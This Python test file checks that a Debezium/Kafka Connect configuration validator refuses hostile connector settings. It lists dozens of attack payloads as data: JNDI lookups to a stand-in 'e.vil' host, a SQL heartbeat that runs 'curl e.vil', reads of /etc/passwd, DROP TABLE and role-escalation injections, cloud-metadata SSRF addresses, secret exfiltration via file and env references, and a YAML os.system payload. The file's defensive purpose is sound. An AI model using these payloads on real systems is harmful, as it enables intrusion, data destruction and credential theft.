"""Configurations that attack the Connect worker, its secrets or its network: refused before any call."""

import json
from pathlib import Path

import pytest
import yaml

from connectors.preset import NEVER_ACCEPTED, violations
from connectors.spec import read_spec, read_specs, spec_of
from core.errors import ConfigurationError
from tests.unit.attack_forms import FORMS
from tests.unit.attack_statements import STATEMENTS
from tests.unit.connect_world import CANARY, shop_config

BEAT = "INSERT INTO public.debezium_heartbeat (name, beat) VALUES ('a', now())"

ATTACKS: dict[str, tuple[str, dict[str, str]]] = {
    # Code in the worker
    "a connector of somebody else": ("class", {"connector.class": "org.evil.Connector"}),
    "a connector in Debezium's package that is no source": (
        "class",
        {"connector.class": "io.debezium.connector.jdbc.JdbcSinkConnector"},
    ),
    "a connector that only begins like ours": (
        "class",
        {"connector.class": "io.debezium.connector.postgresql.PostgresConnectorX"},
    ),
    "Kafka's file connector reads any file": (
        "class",
        {"connector.class": "org.apache.kafka.connect.file.FileStreamSourceConnector"},
    ),
    "a converter of somebody else": ("class", {"value.converter": "org.evil.Converter"}),
    "a class that is filled in on the worker": ("class", {"value.converter": "${file:/x:converter}"}),
    "a header converter of somebody else": ("class", {"header.converter": "org.evil.Converter"}),
    "a transform of somebody else": ("class", {"transforms": "x", "transforms.x.type": "org.evil.Transform"}),
    "a transform that only begins like Kafka's": (
        "class",
        {"transforms": "x", "transforms.x.type": "org.apache.kafka.connect.transformsevil.X"},
    ),
    "a script as a filter": (
        "class",
        {
            "transforms": "x",
            "transforms.x.type": "io.debezium.transforms.Filter",
            "transforms.x.language": "jsr223.groovy",
            "transforms.x.condition": "'id'.execute()",
        },
    ),
    "a script as a router": (
        "class",
        {"transforms": "x", "transforms.x.type": "io.debezium.transforms.ContentBasedRouter"},
    ),
    "a transform that calls a model's address": (
        "class",
        {"transforms": "x", "transforms.x.type": "io.debezium.ai.embeddings.FieldToEmbedding"},
    ),
    "a predicate of somebody else": ("class", {"predicates": "x", "predicates.x.type": "org.evil.Predicate"}),
    "a converter of columns of somebody else": ("class", {"converters": "x", "x.type": "org.evil.Custom"}),
    "a post processor of somebody else": ("class", {"post.processors": "x", "x.type": "org.evil.Processor"}),
    "a schema history of somebody else": ("class", {"schema.history.internal": "org.evil.History"}),
    "a schema history that writes files": (
        "class",
        {"schema.history.internal": "io.debezium.storage.file.history.FileSchemaHistory"},
    ),
    "names of topics by somebody's class": ("class", {"topic.naming.strategy": "org.evil.Naming"}),
    "a driver of somebody else": ("class", {"database.jdbc.driver": "org.evil.Driver"}),
    "a look-up by JNDI at login": (
        "client-door",
        {"producer.override.sasl.jaas.config": "com.sun.security.auth.module.JndiLoginModule required;"},
    ),
    "a look-up by JNDI for the schema history": (
        "client-door",
        {
            "schema.history.internal.producer.sasl.jaas.config": (
                'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://e.vil/x";'
            )
        },
    ),
    "a look-up by JNDI in a text that is logged": (
        "injection",
        {"custom.metric.tags": "a=${jndi:ldap://e.vil/x}"},
    ),
    "a handler of logins": (
        "client-door",
        {"consumer.override.sasl.login.callback.handler.class": "org.evil.Handler"},
    ),
    "an engine for TLS": (
        "client-door",
        {"producer.override.ssl.engine.factory.class": "org.evil.Factory"},
    ),
    "interceptors": ("client-door", {"producer.override.interceptor.classes": "org.evil.Interceptor"}),
    "reporters of metrics": ("client-door", {"admin.override.metric.reporters": "org.evil.Reporter"}),
    "security providers": ("client-door", {"producer.override.security.providers": "org.evil.Provider"}),
    "a config provider": ("client-door", {"config.providers": "x", "config.providers.x.class": "org.evil.P"}),
    "a snapshot mode of somebody's class": ("client-door", {"snapshot.mode.custom.name": "evil"}),
    "a socket factory of the JDBC driver": (
        "client-door",
        {"driver.socketFactory": "org.springframework.context.support.ClassPathXmlApplicationContext"},
    ),
    "the same without the driver's prefix": (
        "client-door",
        {"database.socketFactory": "org.springframework.context.support.FileSystemXmlApplicationContext"},
    ),
    "a TLS factory of the JDBC driver": ("client-door", {"database.sslfactory": "org.evil.Factory"}),
    "a log file of the JDBC driver": (
        "client-door",
        {"driver.loggerLevel": "TRACE", "driver.loggerFile": "/opt/connect/plugins/x.jsp"},
    ),
    "deserialisation by the MySQL driver": ("client-door", {"driver.autoDeserialize": "true"}),
    "local files by the MySQL driver": ("client-door", {"database.allowLoadLocalInfile": "true"}),
    "driver options in the database's name": (
        "injection",
        {"database.dbname": "shop?socketFactory=org.evil.Factory"},
    ),
    "driver options behind an ampersand": ("injection", {"database.dbname": "shop&loggerFile=/tmp/x"}),
    "driver options behind a semicolon": (
        "injection",
        {"database.names": "shop;trustServerCertificate=true"},
    ),
    "driver options in the port": ("injection", {"database.port": "5432/x?sslmode=disable"}),
    "another host in the host": ("injection", {"database.hostname": "db.example/x?host=e.vil"}),
    # Statements with the connector's rights
    "a second statement at each heartbeat": (
        "injection",
        {"heartbeat.action.query": f"{BEAT}; DROP TABLE public.articles"},
    ),
    "a second statement behind a comment": (
        "injection",
        {"heartbeat.action.query": f"{BEAT} /* ; */ ; DELETE FROM public.articles"},
    ),
    "a second statement behind a quote that MySQL ends elsewhere": (
        "injection",
        {"heartbeat.action.query": r"INSERT INTO b VALUES ('a\'' ; DROP TABLE t; -- '"},
    ),
    "a program at each heartbeat": (
        "injection",
        {"heartbeat.action.query": "COPY (SELECT 1) TO PROGRAM 'curl e.vil'"},
    ),
    "a file read at each heartbeat": (
        "injection",
        {"heartbeat.action.query": "INSERT INTO b SELECT pg_read_file('/etc/passwd')"},
    ),
    "a change of tables at each connection": (
        "injection",
        {"database.initial.statements": "SET lock_timeout = 1; ALTER ROLE debezium SUPERUSER"},
    ),
    "another role at each connection": ("injection", {"database.initial.statements": "SET ROLE postgres"}),
    "a file read by a snapshot": (
        "injection",
        {
            "snapshot.select.statement.overrides": "public.articles",
            "snapshot.select.statement.overrides.public.articles": (
                "SELECT pg_read_file('/etc/passwd') AS title"
            ),
        },
    ),
    # Addresses
    "the cloud's metadata as a database": ("host", {"database.hostname": "169.254.169.254"}),
    "the same as one number": ("host", {"database.hostname": "2852039166"}),
    "the same in hex": ("host", {"database.hostname": "0xA9.0xFE.0xA9.0xFE"}),
    "the same over IPv6": ("host", {"database.hostname": "::ffff:169.254.169.254"}),
    "the same by a name that spells it": ("host", {"database.hostname": "169.254.169.254.nip.io"}),
    "Google's metadata by name": ("host", {"database.hostname": "Metadata.Google.Internal."}),
    "Amazon's metadata over IPv6": ("host", {"database.hostname": "fd00:ec2::254"}),
    "Alibaba's metadata": ("host", {"database.hostname": "100.100.100.200"}),
    "metadata as one broker of three": (
        "host",
        {"schema.history.internal.kafka.bootstrap.servers": "k1:9092,169.254.169.254:80,k2:9092"},
    ),
    "metadata as a shard": (
        "host",
        {"mongodb.connection.string": "mongodb://a:27017,169.254.169.254:80/?replicaSet=rs0"},
    ),
    "metadata in a URL under any key": ("host", {"transforms.x.endpoint.of.x": "http://169.254.169.254/x"}),
    "a file as an address": ("host", {"signal.kafka.bootstrap.servers": "file:///etc/passwd"}),
    "all records to other brokers": (
        "client-door",
        {"producer.override.bootstrap.servers": "brokers.e.vil:9092"},
    ),
    "the schema history to other brokers": (
        "client-door",
        {"schema.history.internal.producer.bootstrap.servers": "brokers.e.vil:9092"},
    ),
    "a token from a file": (
        "client-door",
        {"producer.override.sasl.oauthbearer.token.endpoint.url": "file:///etc/passwd"},
    ),
    "lineage to an address of a file": (
        "client-door",
        {"openlineage.integration.enabled": "true", "openlineage.integration.config.file.path": "/opt/o.yml"},
    ),
    "signals from a file of the worker": (
        "client-door",
        {"signal.enabled.channels": "source,file", "signal.file": "/etc/passwd"},
    ),
    "notifications by somebody's class": ("client-door", {"notification.enabled.channels": "sink,evil"}),
    # Secrets
    "a private key in clear": (
        "inline-secret",
        {"producer.override.ssl.keystore.key": f"-----BEGIN PRIVATE KEY----- {CANARY}"},
    ),
    "a password in clear": ("inline-secret", {"database.password": CANARY}),
    "a password in a URL": (
        "inline-secret",
        {"mongodb.connection.string": f"mongodb://debezium:{CANARY}@m.example:27017"},
    ),
    "the worker's environment by a file": (
        "exfiltration",
        {"database.password": "${file:/proc/self/environ:AWS_SECRET_ACCESS_KEY}"},
    ),
    "the same by a way around": (
        "exfiltration",
        {"database.password": "${file:/secrets/../proc/1/environ:TOKEN}"},
    ),
    "a file by a way up": ("exfiltration", {"database.user": "${dir:/secrets/../../etc:passwd}"}),
    "a secret as the name of topics": ("exfiltration", {"topic.prefix": "${file:/secrets/a:password}"}),
    "a secret in a row of the heartbeat": (
        "exfiltration",
        {"heartbeat.action.query": "INSERT INTO b (name) VALUES ('${file:/secrets/a:password}')"},
    ),
    "a secret as a field of every record": (
        "exfiltration",
        {
            "transforms": "x",
            "transforms.x.type": "org.apache.kafka.connect.transforms.InsertField$Value",
            "transforms.x.static.field": "a",
            "transforms.x.static.value": "${env:AWS_SECRET_ACCESS_KEY}",
        },
    ),
    "a secret as a part of a host's name": (
        "host",
        {"database.hostname": "${file:/secrets/a:password}.e.vil"},
    ),
    # Text
    "a line break in a value": ("injection", {"database.user": "debezium\r\nX-Forwarded-For: 1.2.3.4"}),
    "a control character in a key": ("injection", {"database.user\x00": "debezium"}),
}


def test_there_are_more_than_a_few() -> None:
    assert len(ATTACKS) >= 60


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_refused_and_no_reason_waives_it(attack: str) -> None:
    rule, changed = ATTACKS[attack]
    found = violations({**shop_config(), **changed}, {*NEVER_ACCEPTED, rule})
    assert rule in {violation.rule for violation in found if violation.rule in NEVER_ACCEPTED}, attack
    assert CANARY not in " ".join(map(str, found))


EVERY_ATTACK = [*ATTACKS.items(), *FORMS.items(), *STATEMENTS.items()]


@pytest.mark.parametrize(
    "attack", [attack for _, attack in EVERY_ATTACK], ids=[name for name, _ in EVERY_ATTACK]
)
def test_an_attack_is_refused_in_a_file_of_connects_own_form(
    attack: tuple[str, dict[str, str]], tmp_path: Path
) -> None:
    rule, changed = attack
    file = tmp_path / "attack.json"
    file.write_text(json.dumps({"name": "shop", "config": {**shop_config(), **changed}}))
    assert rule in {violation.rule for violation in read_spec(file).violations()}


@pytest.mark.parametrize("rule", sorted(NEVER_ACCEPTED))
def test_a_file_that_waives_a_protection_is_no_connector(rule: str, tmp_path: Path) -> None:
    file = tmp_path / "attack.yaml"
    file.write_text(yaml.safe_dump({"name": "shop", "config": {}, "accept": {rule: "it is fine"}}))
    with pytest.raises(ConfigurationError, match="never waived"):
        read_spec(file)


@pytest.mark.parametrize(
    "name", ["../../etc/passwd", "a/b", "a\nb", "a%2e%2e", "", ".hidden", "a b", "a?x=y", "é"]
)
def test_a_name_that_leaves_its_path_is_no_name(name: str, tmp_path: Path) -> None:
    file = tmp_path / "attack.json"
    file.write_text(json.dumps({"name": name, "config": shop_config()}))
    with pytest.raises(ConfigurationError, match="name"):
        read_spec(file)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("name: a\nconfig: !!python/object/apply:os.system ['id']\n", "no YAML"),
        ("name: a\nvalues: &a [x]\nconfig: {b: *a}\n", "an alias"),
        ("name: a\nconfig:\n  errors.tolerance: none\n  errors.tolerance: all\n", "stands twice"),
        (f"name: a\nconfig: {{database.password: {CANARY}\n", "no YAML"),
        ("- a\n", "holds no connector"),
        ('name: "\\UFFFFFFFF"\n', "cannot be parsed"),
        ('name: "\\U00110000"\n', "cannot be parsed"),
        ("name: a\nconfig: {b: '{{ values.__class__.__mro__ }}'}\n", "cannot be filled in"),
        ("name: a\nvalues: {x: '{{ 7 * 7 }}'}\nconfig: {b: '{{ values.x }}'}\n", "plain text"),
        ("name: a\nvalues: {x: [1]}\nconfig: {b: '{{ values.x }}'}\n", "cannot be filled in"),
        ("name: a\nconfig: {b: '{{ range(10) }}'}\n", "cannot be filled in"),
    ],
)
def test_a_file_that_attacks_its_reader_is_refused(text: str, said: str, tmp_path: Path) -> None:
    file = tmp_path / "attack.yaml"
    file.write_text(text)
    with pytest.raises(ConfigurationError, match=said) as raised:
        read_spec(file)
    assert CANARY not in str(raised.value)


def test_a_huge_file_is_not_parsed(tmp_path: Path) -> None:
    file = tmp_path / "attack.yaml"
    file.write_text("name: a\n# " + "x" * (1 << 20))
    with pytest.raises(ConfigurationError, match="longer than"):
        read_spec(file)


def test_a_name_cannot_be_taken_by_a_second_file(tmp_path: Path) -> None:
    for name in ("a.json", "b.json"):
        (tmp_path / name).write_text(json.dumps({"name": "shop", "config": shop_config()}))
    with pytest.raises(ConfigurationError, match=r"stands in .*a\.json too"):
        read_specs([tmp_path])


@pytest.mark.parametrize(
    ("key", "value", "rule"),
    [
        ("database.hostname", "169.254.169.254", "host"),
        ("database.hostname", "e.vil/x?y", "host"),
        ("database.dbname", "shop?socketFactory=org.evil.F", "injection"),
        ("database.user", "a\nb", "injection"),
    ],
)
def test_the_environment_is_no_way_around(key: str, value: str, rule: str) -> None:
    spec = spec_of("shop", {**shop_config(), key: "${env:ATTACK}"})
    assert spec.violations() == []
    with pytest.raises(ConfigurationError, match=rule) as raised:
        spec.resolved({"ATTACK": value})
    assert value not in str(raised.value)


def test_with_a_list_of_hosts_every_other_address_is_refused() -> None:
    spec = spec_of("shop", shop_config())
    assert spec.violations(hosts=["db.example"]) == []
    assert spec.violations(hosts=["*.example"]) == []
    for allowed in (["other.example"], ["*.db.example"], []):
        assert [violation.rule for violation in spec.violations(hosts=allowed)] == ["host"]
    assert spec_of("shop", {**shop_config(), "database.hostname": "db.example.e.vil"}).violations(
        hosts=["db.example", "*.example"]
    )
